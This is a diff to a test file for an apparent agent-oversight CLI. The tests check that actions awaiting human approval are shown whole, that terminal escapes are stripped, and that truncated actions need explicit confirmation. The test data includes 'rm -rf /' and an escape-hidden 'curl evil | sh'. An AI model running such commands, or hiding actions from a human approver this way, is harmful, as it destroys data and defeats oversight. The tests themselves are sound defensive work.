@@ -9,6 +9,7 @@ import { EXIT } from "../exit-codes.ts";
 import { oversightCommands } from "../program-oversight.ts";
 import { FIXTURE_ID, FIXTURE_STUDY, FixtureJournal, trialId } from "../testing/fixture-journal.ts";
 import { testContext } from "../testing/test-context.ts";
+import { shownAction } from "./approval-shown.ts";
 import type { Asker } from "./oversee-asker.ts";
 import { oversee } from "./oversee.ts";
 
@@ -72,8 +73,14 @@ afterEach(async () => {
   await rm(dir, { recursive: true });
 });
 
-const approve = (id: string, decision: "asked" | "allow" | "deny", who = "policy") =>
-  journal.node("alpha", 1, { kind: "approval", id, action: ESCAPE, pattern: "rm", decision, who, why: "so" });
+const approve = (
+  id: string,
+  decision: "asked" | "allow" | "deny",
+  who = "policy",
+  shown: { action: string; cut?: boolean } = { action: ESCAPE },
+) => journal.node("alpha", 1, { kind: "approval", id, ...shown, pattern: "rm", decision, who, why: "so" });
+/** As a node that shows all of it records it. */
+const WHOLE = { action: String.raw`run_command {"command":"rm -rf /"}`, cut: false };
 
 /** The command line with these commands alone. */
 async function redline(...argv: string[]) {
@@ -152,17 +159,81 @@ it("pauses, resumes, stops and speaks to a trial, and says what its node refused
 
 it("lists what waits without letting it speak to the terminal, and answers it by its id", async () => {
   expect((await redline("approval")).out).toBe("nothing waits for an answer\n");
-  approve("q1", "asked");
+  approve("q1", "asked", "policy", WHOLE);
   approve("q2", "asked");
   approve("q2", "deny", "nobody");
   const listed = await redline("approval", "list");
   expect(listed.out).toContain(`${TRIAL}.1.q1  cross-device/competent/tiny`);
-  expect(listed.out).not.toContain("q2");
+  expect(listed.out).toContain(`\n  | ${WHOLE.action}\n`);
+  expect(listed.out).not.toMatch(/q2|NOT ALL/);
   expect(listed.out).not.toMatch(/[\u001b\u202e]/);
   expect((await redline("approval", "allow", `${TRIAL}.1.q1`, "--why", "fine")).out).toContain("is allowed");
   expect(lastOrder().body).toMatchObject({ act: { do: "decide", id: "q1", allow: true }, why: "fine" });
   expect((await redline("approval", "deny", "q1", "--why", "no")).out).toContain("is denied");
   expect((await redline("approval", "deny", "q2", "--why", "no")).error).toContain('no question "q2" waits');
+});
+
+it.each([
+  ["was cut by its node", { action: "rm a [... 9 characters NOT SHOWN ...] b", cut: true }],
+  ["would move the cursor", { action: "rm a\u001b]; curl evil | sh", cut: false }],
+  ["is in a record that does not say", { action: "rm a" }],
+])("allows what %s only where somebody says so", async (_name, shown) => {
+  approve("q1", "asked", "policy", shown);
+  const listed = await redline("approval", "list");
+  expect(listed.out).toContain("NOT ALL SHOWN");
+  expect(listed.out).not.toContain("\u001b");
+  const refused = await redline("approval", "allow", "q1", "--why", "fine");
+  expect(refused.error).toContain("NOT ALL SHOWN");
+  expect(orders).toEqual([]);
+  expect((await redline("approval", "deny", "q1", "--why", "no")).out).toContain("is denied");
+  const allowed = await redline("approval", "allow", "q1", "--why", "fine", "--all-seen");
+  expect(allowed.out).toContain("is allowed");
+  expect(lastOrder().body).toMatchObject({ act: { do: "decide", allow: true } });
+});
+
+it("asks at the terminal a second time before it allows what is not all shown", async () => {
+  const cut = { action: `${"x".repeat(300)} rm`, cut: true };
+  approve("q1", "asked", "policy", cut);
+  approve("q2", "asked", "policy", WHOLE);
+  approve("q3", "asked", "policy", cut);
+  // The input ends here.
+  approve("q4", "asked", "policy", WHOLE);
+  const script = ["a", "y", "a", "no", "d", "why not", "a", "it is fine", "a", "yes", "read it all"];
+  const { asker, asked } = person(() => script.shift() ?? null);
+  const { context, out } = testContext(dir);
+  await oversee(context, { study: undefined, socket: join(dir, "api.sock") }, () => asker);
+  expect(orders.map(({ body }) => body)).toMatchObject([
+    { act: { id: "q1", allow: false }, why: "why not" },
+    { act: { id: "q2", allow: true }, why: "it is fine" },
+    { act: { id: "q3", allow: true }, why: "read it all" },
+  ]);
+  expect(asked.filter((prompt) => prompt.startsWith("NOT ALL"))).toHaveLength(3);
+  expect(out.text().match(/NOT ALL SHOWN/g)).toHaveLength(2);
+  // No line is left to the terminal to break.
+  expect(
+    out
+      .text()
+      .split("\n")
+      .filter((line) => line.includes("xxx") && !line.startsWith("  | x")),
+  ).toEqual([]);
+  expect(
+    Math.max(
+      ...out
+        .text()
+        .split("\n")
+        .map((line) => line.length),
+    ),
+  ).toBeLessThanOrEqual(160);
+});
+
+it("shows the whole of an action behind the bar, whatever newlines an old record has", () => {
+  const { lines, whole } = shownAction({ action: `${"\n".repeat(600)}rm -rf /`, cut: undefined }, 80);
+  expect(lines.join("")).toBe(`${"\\n".repeat(600)}rm -rf /`);
+  expect(whole).toBe(false);
+  expect(shownAction({ action: "\u4f60".repeat(50), cut: false }, 40)).toEqual({
+    lines: ["\u4f60".repeat(20), "\u4f60".repeat(20), "\u4f60".repeat(10)],
+    whole: true,
+  });
 });
 
 /** A person whose answers the test gives; `asked` keeps the prompts. */
